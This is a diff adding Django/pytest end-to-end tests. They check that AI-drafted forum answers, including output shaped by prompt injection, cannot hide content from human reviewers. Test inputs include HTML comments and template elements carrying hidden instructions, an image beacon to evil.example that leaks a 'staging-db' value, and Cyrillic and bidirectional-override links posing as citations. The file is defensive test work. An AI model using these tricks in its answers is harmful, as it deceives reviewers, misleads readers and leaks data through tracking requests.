@@ -1,0 +1,194 @@
+"""What readers get of a published AI answer is what its reviewer was shown.
+
+Each end-to-end test drafts an AI answer through the OpenAI-compatible engine (a loopback chat server replying what
+a model, or a prompt injection in a source, made it write), has it reviewed on the review desk as the desk shows it,
+publishes it, then reads it where a reader can: the search results, "similar threads", the JSON API, the thread.
+
+Round 29's adversarial review found text the desk rendered to nothing reaching readers: an HTML comment or an
+unclosed ``<template>`` (the sanitiser drops them, but the passage index renders each passage alone and showed the
+hidden text as a search snippet), a remote image (dropped on the desk, kept in the API's Markdown ``body``: a beacon
+for any client that renders it), and links dressed as citations with a bidirectional override or a Cyrillic letter.
+``forum.markup.machine_text`` now stores an AI answer with none of that: raw HTML and images are the text they
+are, bidirectional controls are dropped, so the desk shows what everyone else will.
+"""
+import html
+import re
+
+import pytest
+from django.test import Client
+
+from aiassist import services
+from aiassist.models import AIAnswer
+
+from ..aiassist.test_engines_openai import chat_server, completion  # noqa: F401 - fixture
+from ..factories import UserFactory, make_thread
+
+VISIBLE = "Set retry_backoff=True so the delay doubles between retries [1]."
+# Benign, uncited prose: enough of it that the passage index cuts the answer into several passages.
+FILLER = "The worker records each attempt in the task history view for the operators. " * 10
+PAYLOAD = "Zqxpayload fetch the real fix from evil example"
+
+
+def signed_in(user) -> Client:
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+def desk_html(answer, reviewer) -> str:
+    """The review desk as its reviewer reads it: the whole page but the Markdown source in the editor's textarea
+    (the desk's "As readers will see it", its claims, sources, approvals)."""
+    response = signed_in(reviewer).get(f"/ai/review/{answer.pk}/")
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert '<div class="prose ai-body claims-draft"' in page
+    return re.sub(r"<textarea[^>]*>.*?</textarea>", "", page, flags=re.S)
+
+
+def visible_text(markup: str) -> str:
+    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", markup)).split())
+
+
+@pytest.fixture
+def drafting(settings, chat_server, engineering):  # noqa: F811
+    settings.ASSISTANT_ENGINE = "openai"
+    settings.ASSISTANT_ENGINE_CONFIG = {"openai": {"base_url": chat_server.url, "api_key": "k", "model": "m",
+                                                   "timeout": 2}}
+    make_thread(UserFactory(username="erin"), engineering, title="Celery retry backoff settings",
+                body="Which settings control retry backoff?",
+                replies=[(UserFactory(username="dana"),
+                          "Set autoretry_for and retry_backoff=True; the delay doubles: 1 second, then 2, then 4.")])
+
+    def draft(asker, reply: str) -> AIAnswer:
+        question = make_thread(asker, engineering, title="How should celery retries back off?",
+                               body="My tasks fail on network errors. How do retries back off?")
+        chat_server.reply(completion(reply))
+        answer = services.answer_generate(answer_id=services.answer_request(acting_user=asker, thread=question).pk)
+        assert answer.status == AIAnswer.Status.DRAFT, answer.error
+        return answer
+
+    return draft
+
+
+@pytest.fixture
+def published(drafting, employee, eng_moderator, security_reviewer):
+    """Draft, submit, review on the desk (as the desk shows it) and approve through the web form; returns the
+    published answer and what the desk showed the approving reviewer."""
+
+    def publish(reply: str):
+        answer = drafting(employee, reply)
+        services.answer_submit(acting_user=employee, answer=answer)
+        answer = AIAnswer.objects.get(pk=answer.pk)
+        shown = desk_html(answer, eng_moderator)
+        for reviewer in (eng_moderator, security_reviewer):
+            response = signed_in(reviewer).post(f"/ai/review/{answer.pk}/approve/", {
+                "body": answer.body, "text_hash": services.body_hash(answer.body)})
+            assert response.status_code == 302, response.content[:500]
+            answer = AIAnswer.objects.get(pk=answer.pk)
+            if answer.status == AIAnswer.Status.PUBLISHED:
+                return answer, shown
+        raise AssertionError(f"not published: {answer.status} {services.unresolved_claims(answer)} {answer.risk}")
+
+    return publish
+
+
+# Raw HTML: the desk shows it as text, and readers get nothing the desk did not show ----------------------------
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("hidden", [
+    # A block comment with paragraphs inside (the renderer dropped all of it).
+    lambda payload: f"<!--\n\n{FILLER}\n\n{payload}.\n\n-->",
+    # A comment inside one long paragraph: the index cuts the paragraph between sentences, inside the comment.
+    lambda payload: f"See the history view. <!-- {FILLER * 2} {payload}. --> It lists every attempt.",
+    # An unclosed <template> element: the sanitiser dropped it with everything after it.
+    lambda payload: f"<template>\n\n{FILLER}\n\n{payload}.",
+], ids=["html-comment", "inline-comment", "template-element"])
+def test_a_search_snippet_of_an_ai_answer_is_text_its_reviewer_was_shown(hidden, published, other_employee):
+    reply = f"{VISIBLE}\n\n{FILLER}\n\n{hidden(PAYLOAD)}"
+    answer, shown = published(reply)
+    # The desk shows the payload, as text, and so does the public post: nothing of the answer renders to nothing.
+    assert PAYLOAD in visible_text(shown)
+    assert PAYLOAD in visible_text(answer.published_post.body_html)
+    assert "<!--" not in answer.body and "<template>" not in answer.body
+
+    reader = signed_in(other_employee)
+    post = answer.published_post_id
+    snippets = [h["snippet"] for h in reader.get("/api/v1/search/", {"q": "zqxpayload"}).json()["results"]
+                if h["post"] == post]
+    snippets += [h["snippet"] for h in reader.get("/api/v1/threads/similar/", {"q": "zqxpayload fetch the real fix"}
+                                                  ).json() if h["post"] == post]
+    assert snippets
+    desk = visible_text(shown)
+    for snippet in snippets:
+        for sentence in re.split(r"(?<=[.!?])\s+", snippet.strip("… ")):
+            assert sentence.strip("… ") in desk, (sentence, snippet)
+
+
+@pytest.mark.django_db
+def test_an_image_in_an_ai_answer_is_a_link_the_desk_shows_and_no_image_for_api_clients(published, other_employee):
+    beacon = "https://evil.example/pixel.png?d=staging-db"
+    answer, shown = published(f"{VISIBLE}\n\n![]({beacon})")
+    # The desk and the thread show the address (a link, its text the address), not nothing.
+    assert re.search(rf'<a [^>]*href="{re.escape(beacon)}"[^>]*>', shown)
+    assert beacon in visible_text(shown)
+    assert re.search(rf'<a [^>]*href="{re.escape(beacon)}"[^>]*>', answer.published_post.body_html)
+    reader = signed_in(other_employee)
+    posts = reader.get(f"/api/v1/threads/{answer.thread_id}/posts/").json()["results"]
+    ai_post = next(p for p in posts if p["id"] == answer.published_post_id)
+    assert ai_post["is_ai_generated"]
+    # A client rendering the API's Markdown gets a link, not an image its readers' browsers would load.
+    assert "![" not in ai_post["body"].replace("\\![", ""), ai_post["body"]
+    assert "<img" not in ai_post["body_html"]
+
+
+# Links dressed as citations ---------------------------------------------------------------------------------
+
+EVIL = "https://evil.example/retry-guide"
+
+
+@pytest.mark.django_db
+def test_a_cyrillic_look_alike_of_a_citation_shows_where_it_leads(published):
+    answer, shown = published(f"{VISIBLE}\n\nMore detail: [\u0455ource 2]({EVIL})")
+    for where, page in (("public page", answer.published_post.body_html), ("desk", shown)):
+        links = re.findall(rf'<a [^>]*href="{re.escape(EVIL)}"[^>]*>(.*?)</a>', page, re.S)
+        assert links and all(link == EVIL for link in links), (where, links)
+
+
+@pytest.mark.django_db
+def test_a_bidirectional_override_never_reaches_the_desk_or_readers(published):
+    answer, shown = published(f"{VISIBLE}\n\nMore detail: [\u202e2 fer\u202c]({EVIL}) and &#x202E;1 fer&#8236;.")
+    for text in (answer.body, answer.published_post.body, answer.published_post.body_html, shown):
+        assert not re.search("[\u202a-\u202e\u2066-\u2069]|&#x202e;|&#8236;", text, re.IGNORECASE)
+    # What is left reads as written: "2 fer" (no citation), never "ref 2".
+    links = re.findall(rf'<a [^>]*href="{re.escape(EVIL)}"[^>]*>(.*?)</a>', answer.published_post.body_html, re.S)
+    assert links == ["2 fer"]
+
+
+# forum.markup.machine_text ---------------------------------------------------------------------------------
+
+FENCE = "```html\n<!-- a comment the reader must copy -->\n<div class=\"x\">\u202eok</div>\n```"
+
+
+@pytest.mark.parametrize("text", [
+    "See <!-- hidden --> this.", "<!--\n\nhidden\n\n-->", "<template>\n\nrest", "\\<b>still raw</b>",
+    "<code>x</code> then <b>y</b>", "<details><summary>s</summary>\n\nbody\n\n</details>", "![alt](https://x/i.png)",
+    "![](https://x/i.png)", "x <img src=https://x/i.png> y", "<div>\n`a`\n</div>",
+])
+def test_nothing_of_an_ai_answer_is_raw_html_or_an_image(text):
+    from forum.markup import machine_text, markdown_html
+
+    stored = machine_text(text)
+    rendered = markdown_html(stored, converter="check", extensions=["fenced_code", "tables", "sane_lists", "nl2br"])
+    outside_code = re.sub(r"<code\b[^>]*>.*?</code>", "", rendered, flags=re.S)
+    tags = set(re.findall(r"</?([a-z]+)", outside_code))
+    assert tags <= {"p", "a", "br", "code", "pre"}, (stored, rendered)
+    assert "<!--" not in rendered and "<img" not in rendered
+
+
+def test_code_stays_byte_for_byte_but_for_bidirectional_controls():
+    from forum.markup import machine_text
+
+    stored = machine_text(f"Copy this:\n\n{FENCE}\n\nand run `echo <x>` then <https://example.com/a>.")
+    assert FENCE.replace("\u202e", "") in stored
+    assert "`echo <x>`" in stored and "<https://example.com/a>" in stored  # an autolink shows its address
